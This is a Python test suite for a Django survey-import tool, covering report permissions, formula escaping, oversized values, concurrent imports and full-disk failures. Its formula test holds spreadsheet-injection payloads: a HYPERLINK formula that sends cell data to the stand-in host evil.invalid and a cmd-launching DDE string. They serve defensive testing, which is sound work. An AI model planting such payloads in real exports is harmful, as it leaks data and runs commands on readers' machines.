"""Import safety: who may download reports, formulas in reports, cells the database cannot hold, batches that
always end, one import writing at a time, private random file names, and a full disk."""

import csv
import io
import subprocess
import time
import uuid
from pathlib import Path

import openpyxl
import psycopg
import pytest
from django.conf import settings
from django.contrib.auth.models import Permission
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from django_tasks_db.models import DBTaskResult

from industries.models import Enterprise
from surveys.exceptions import UploadNotStored
from surveys.models import ImportBatch, SurveyRound
from surveys.services import import_batch_create, import_batch_run
from surveys.storage import private_root
from tests.conftest import manage_py
from tests.surveys.test_import_batch_run import HEADERS, row, write_csv


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def run(survey, path: Path) -> ImportBatch:
    with open(path, "rb") as handle:
        batch = import_batch_create(survey_round=survey, file=File(handle, name=path.name))
    return import_batch_run(batch=batch)


def psycopg_connect():
    db = connection.settings_dict
    return psycopg.connect(
        host=db["HOST"] or "127.0.0.1",
        port=db["PORT"] or 5432,
        user=db["USER"],
        password=db["PASSWORD"],
        dbname=db["NAME"],
        autocommit=False,
    )


# --- 2. reports need the personal-data permission -----------------------------------------------------------


@pytest.mark.django_db
def test_a_report_is_for_staff_who_may_see_personal_data(client, django_user_model, tmp_path):
    batch = run(
        SurveyRound.objects.create(name="R"),
        write_csv(tmp_path / "a.csv", [row(), row(reg="R2", name="", lat="24.85")]),
    )
    assert batch.report_csv
    officer = django_user_model.objects.create_user("officer", password="pw", is_staff=True)
    officer.user_permissions.add(Permission.objects.get(codename="view_importbatch"))
    client.force_login(officer)
    for fmt in ("csv", "xlsx"):
        assert (
            client.get(reverse("admin:surveys_importbatch_report", args=[batch.pk, fmt])).status_code == 403
        )

    officer.user_permissions.add(Permission.objects.get(codename="view_personal"))
    officer = django_user_model.objects.get(pk=officer.pk)  # permissions are cached per user object
    client.force_login(officer)
    download = client.get(reverse("admin:surveys_importbatch_report", args=[batch.pk, "csv"]))
    assert download.status_code == 200 and b"Rahima Begum" in b"".join(download.streaming_content)

    # view_personal alone is not enough: the batch itself must be viewable.
    other = django_user_model.objects.create_user("analyst", password="pw", is_staff=True)
    other.user_permissions.add(Permission.objects.get(codename="view_personal"))
    client.force_login(other)
    assert client.get(reverse("admin:surveys_importbatch_report", args=[batch.pk, "csv"])).status_code == 403


# --- 3. no cell of a report runs as a formula ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.django_db
def test_report_cells_that_look_like_formulas_stay_text(tmp_path):
    rows = [[*row(reg=f"F{i}", name=value, lat=""), "@x"] for i, value in enumerate(FORMULAS)]
    rows.append([*row(reg="F9", name="\tTabbed", lat="", phone="+8801711234567"), "@x"])
    rows.append([*row(reg="OK"), "plain"])  # imported: not in the report
    headers = [*HEADERS, "=cmd()"]  # a header can be a formula too
    batch = run(SurveyRound.objects.create(name="R"), write_csv(tmp_path / "f.csv", rows, headers=headers))
    assert batch.rejected_count == 5

    text = Path(batch.report_csv.path).read_text(encoding="utf-8-sig")
    report = list(csv.reader(io.StringIO(text)))
    names = [line[report[0].index(HEADERS[0])] for line in report[1:]]
    assert names == ["'" + value for value in FORMULAS] + ["'\tTabbed"]
    assert report[0][-1] == "'=cmd()" and {line[-1] for line in report[1:]} == {"'@x"}
    assert "+8801711234567" in text and "'+880" not in text  # a phone number is not a formula

    sheet = openpyxl.load_workbook(batch.report_xlsx.path).active
    cells = [cell for line in sheet.iter_rows() for cell in line if isinstance(cell.value, str)]
    assert cells and all(cell.data_type == "s" for cell in cells)  # never "f"
    assert [cell.value for cell in sheet["F"][1:]] == [*FORMULAS, "\tTabbed"]
    assert sheet.cell(1, sheet.max_column).value == "=cmd()"


# --- 4. a cell the database cannot hold rejects its row, not the batch --------------------------------------


@pytest.mark.django_db
def test_over_long_texts_and_huge_numbers_reject_their_rows_only(tmp_path):
    rows = [
        row(reg="OK1"),  # line 2
        row(reg="L1", name="ক" * 256, lat="24.8466"),  # 3: name longer than 255
        row(reg="W1", name="Huge Works", workers="3000000000", size="", lat="24.8467"),  # 4: beyond integer
        row(
            reg="I1", name="Rich Works", investment="100000000000000000000", size="", lat="24.8468"
        ),  # 5: beyond bigint
        row(reg="R" * 51, name="Long Number Works", lat="24.8469"),  # 6: registration number over 50
        row(reg="Y1", name="Future Works", year="99999", lat="24.8470"),  # 7: beyond smallint: a warning
    ]
    batch = run(SurveyRound.objects.create(name="R"), write_csv(tmp_path / "big.csv", rows))
    assert batch.status == ImportBatch.Status.SUCCEEDED, batch.error
    report = {
        int(r["line"]): r["reason_codes"]
        for r in csv.DictReader(io.StringIO(Path(batch.report_csv.path).read_text(encoding="utf-8-sig")))
    }
    assert report == {
        3: "text_too_long",
        4: "number_too_large",
        5: "number_too_large",
        6: "text_too_long",
        7: "date_invalid",
    }
    assert sorted(Enterprise.objects.values_list("registration_no", flat=True)) == ["OK1", "Y1"]
    texts = Path(batch.report_csv.path).read_text(encoding="utf-8-sig")
    assert "longer than the database holds" in texts and "ডেটাবেসের সীমার চেয়ে লম্বা" in texts


def test_a_database_error_ends_the_batch_failed_with_its_message(transactional_db, tmp_path):
    # A real error the importer does not expect: its transaction cannot get a lock within lock_timeout,
    # set on the test database for new connections (the command's).
    path = write_csv(tmp_path / "pilot.csv", [row()])
    args, env = manage_py("import_enterprises", str(path), "--survey", "Crash", media_root=tmp_path / "media")
    name = connection.settings_dict["NAME"]
    with psycopg_connect() as blocker:
        blocker.execute(f'ALTER DATABASE "{name}" SET lock_timeout = 300')
        blocker.commit()
        try:
            blocker.execute("LOCK TABLE industries_enterprise IN EXCLUSIVE MODE")
            done = subprocess.run(
                args, env=env, cwd=settings.BASE_DIR, capture_output=True, text=True, timeout=300
            )
            blocker.rollback()
        finally:
            blocker.execute(f'ALTER DATABASE "{name}" RESET lock_timeout')
            blocker.commit()
    assert done.returncode != 0
    batch = ImportBatch.objects.get()
    assert batch.status == ImportBatch.Status.FAILED and batch.finished is not None
    assert "unexpected error" in batch.error and "lock timeout" in batch.error
    assert "অপ্রত্যাশিত ত্রুটি" in batch.error
    assert Enterprise.objects.count() == 0


def test_uploading_a_queued_file_again_does_not_queue_it_twice(
    transactional_db, client, django_user_model, tmp_path
):
    client.force_login(django_user_model.objects.create_superuser("officer", "o@example.invalid", "pw"))
    survey = SurveyRound.objects.create(name="Twice")
    content = write_csv(tmp_path / "pilot.csv", [row()]).read_bytes()
    for _ in range(2):
        response = client.post(
            reverse("admin:surveys_importbatch_add"),
            {"survey_round": survey.pk, "file": SimpleUploadedFile("pilot.csv", content)},
        )
        assert response.status_code == 302
    assert ImportBatch.objects.count() == 1
    assert DBTaskResult.objects.count() == 1


def test_two_imports_never_write_at_once_the_second_waits_for_the_first(transactional_db, tmp_path):
    """Two real processes import files that share enterprises (same names, same places, no registration
    numbers). The first is held just before its commit; the second must wait for it (on the advisory
    lock), then match the first one's enterprises instead of creating them again."""
    shared = [row(reg="", name=f"Shared Works {i}", lat=f"{24.80 + i / 1000:.4f}") for i in range(20)]
    first = write_csv(tmp_path / "first.csv", shared)
    second = write_csv(tmp_path / "second.csv", [*shared, row(reg="", name="Only Second", lat="24.7")])
    commands = [
        manage_py("import_enterprises", str(p), "--survey", "Overlap", media_root=tmp_path / "media")
        for p in (first, second)
    ]

    def waiting(query_part: str, event: str | None = None) -> int:
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND wait_event_type = 'Lock' AND query LIKE %s AND (%s::text IS NULL OR wait_event = %s)",
                [f"%{query_part}%", event, event],
            )
            return cursor.fetchone()[0]

    def until(condition, what: str):
        deadline = time.monotonic() + 120
        while not condition():
            assert time.monotonic() < deadline, what
            time.sleep(0.05)

    SurveyRound.objects.create(name="Overlap")
    with psycopg_connect() as blocker:
        blocker.execute("LOCK TABLE surveys_enterprisechange IN EXCLUSIVE MODE")
        one = subprocess.Popen(
            commands[0][0],
            env=commands[0][1],
            cwd=settings.BASE_DIR,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        until(
            lambda: waiting("INSERT INTO surveys_enterprisechange"),
            "the first import never reached its commit",
        )
        two = subprocess.Popen(
            commands[1][0],
            env=commands[1][1],
            cwd=settings.BASE_DIR,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        until(
            lambda: waiting("pg_advisory_xact_lock", "advisory") or two.poll() is not None,
            "the second import never waited for the first",
        )
        assert two.poll() is None, two.stdout.read().decode()
        blocker.rollback()
    assert one.wait(300) == 0, one.stdout.read().decode()
    assert two.wait(300) == 0, two.stdout.read().decode()
    assert Enterprise.objects.count() == 21
    batches = {b.file_name: b for b in ImportBatch.objects.all()}
    assert (batches["first.csv"].created_count, batches["second.csv"].created_count) == (20, 1)
    assert batches["second.csv"].unchanged_count == 20


# --- 5. private storage, random names -----------------------------------------------------------------------


@pytest.mark.django_db
def test_uploads_and_reports_are_outside_media_root_under_random_names(tmp_path):
    survey = SurveyRound.objects.create(name="R")
    batch = run(survey, write_csv(tmp_path / "Rahima Begum's survey.csv", [row(), row(reg="R2", name="")]))
    media, private = Path(settings.MEDIA_ROOT).resolve(), private_root().resolve()
    assert batch.file_name == "Rahima Begum's survey.csv"  # shown as uploaded
    for field in (batch.file, batch.report_csv, batch.report_xlsx):
        stored = Path(field.path).resolve()
        assert stored.is_file() and stored.is_relative_to(private) and not stored.is_relative_to(media)
        uuid.UUID(stored.stem)  # random
        assert "Rahima" not in field.name
        with pytest.raises(ValueError):
            field.url  # noqa: B018 (no URL names it)
    assert Path(batch.file.name).suffix == ".csv"
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


# --- 6. a full disk -----------------------------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path, settings):
    """A real 256 KB file system (tmpfs) as the private storage, for a full disk."""
    mountpoint = tmp_path / "disk"
    mountpoint.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mountpoint)], capture_output=True, text=True
    )
    if mounted.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    settings.IMPORT_FILES_ROOT = mountpoint
    yield mountpoint
    subprocess.run(["umount", str(mountpoint)], check=True)


def files_in(directory: Path) -> list[Path]:
    return [p for p in directory.rglob("*") if p.is_file()]


@pytest.mark.django_db
def test_an_upload_onto_a_full_disk_leaves_nothing(small_disk, tmp_path, client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("officer", "o@example.invalid", "pw"))
    survey = SurveyRound.objects.create(name="Full")
    rows = [
        row(reg=f"D{i}", name=f"Works {i} " + "x" * 200, lat=f"{24.8 + i / 10_000:.4f}") for i in range(1200)
    ]
    content = write_csv(tmp_path / "big.csv", rows).read_bytes()
    assert len(content) > 256 * 1024

    with pytest.raises(UploadNotStored) as refused:
        import_batch_create(survey_round=survey, file=File(io.BytesIO(content), name="big.csv"))
    assert "could not be stored" in refused.value.message and "রাখা যায়নি" in refused.value.message_bangla

    response = client.post(
        reverse("admin:surveys_importbatch_add"),
        {"survey_round": survey.pk, "file": SimpleUploadedFile("big.csv", content)},
        follow=True,
    )
    page = response.content.decode()
    assert "could not be stored" in page and "রাখা যায়নি" in page
    assert files_in(small_disk) == [] and ImportBatch.objects.count() == 0 and Enterprise.objects.count() == 0
    assert DBTaskResult.objects.count() == 0


@pytest.mark.django_db
def test_a_report_onto_a_full_disk_fails_the_batch_and_changes_nothing(small_disk, tmp_path):
    # The upload fits; its report (every other row rejected, each with its long text) does not.
    rows = [
        row(
            reg=f"D{i}",
            name=(f"Works {i}" if i % 2 else ""),
            lat=f"{24.8 + i / 10_000:.4f}",
            upazila="y" * 300,
        )
        for i in range(350)
    ]
    path = write_csv(tmp_path / "pilot.csv", rows)
    assert 100 * 1024 < path.stat().st_size < 200 * 1024
    batch = run(SurveyRound.objects.create(name="Full"), path)
    assert batch.status == ImportBatch.Status.FAILED and batch.finished is not None
    assert "unexpected error" in batch.error and "No space left on device" in batch.error
    assert Enterprise.objects.count() == 0  # the rows it would have created were rolled back
    assert [p.name for p in files_in(small_disk)] == [Path(batch.file.name).name]  # no half report
    assert not batch.report_csv and not batch.report_xlsx
